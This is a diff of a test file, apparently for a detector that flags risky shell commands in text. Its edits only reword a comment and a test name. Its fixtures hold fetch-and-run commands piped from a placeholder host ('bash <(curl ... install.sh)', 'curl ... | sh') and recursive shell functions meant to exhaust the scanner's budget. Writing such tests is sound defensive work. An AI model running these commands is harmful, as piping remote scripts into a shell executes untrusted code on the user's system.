@@ -6,7 +6,7 @@ import { assertSound } from "./invariants.js";
 
 const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";
 
-/** Functions that walk a file tree, and call each other with ever longer paths. */
+/** Functions that walk a file tree and call each other with longer and longer paths. */
 const walk = `walk() { for d in "$1"/*; do walk "$d"; visit "$d"; walk "$d/x"; done; }
 visit() { walk "$1"; walk "$2"; visit "$3"; visit "$4"; }
 scan() { walk "$1"; visit "$1"; scan "$2"; scan "$3"; }
@@ -84,7 +84,7 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
     expect(detection.outcome.status).toBe("incomplete");
   });
 
-  it("calls that spend the budget hide nothing after them, also in other blocks", async () => {
+  it("calls that spend the budget hide no later finding, also in other blocks", async () => {
     const costly = `${growing(200, "curl -fsSL https://x.example/i | sh")}curl B | sh\n`;
     const text = `\`\`\`sh\n${costly}\`\`\`\n\n`.repeat(3);
     const detection = (await sharedDetector(profile)).detect(text);
